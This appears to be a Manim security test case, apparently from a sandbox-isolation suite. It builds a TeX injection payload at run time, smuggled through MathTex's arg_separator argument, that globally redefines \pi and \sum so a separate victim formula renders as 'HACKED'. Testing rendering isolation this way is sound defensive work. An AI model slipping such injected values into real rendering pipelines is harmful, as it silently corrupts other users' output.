# family: file
# layer: sandbox
# attack: the same poison built at run time, so the scene compiles it privately and hands its TeX source (and the victim's) to the trusted step to adopt
# victim: A = \pi r^2 + \sum_{k=1}^{n} k
from manim import *


class Attack(Scene):
    def construct(self):
        sep = "".join([r"\global\let\pi", r"\infty\global\def\sum{\text{HACKED}} "])
        self.add(MathTex("x", "y", arg_separator=sep))
        self.add(MathTex("".join([r"A = \pi r^2 + ", r"\sum_{k=1}^{n} k"])))
        self.wait(0.1)
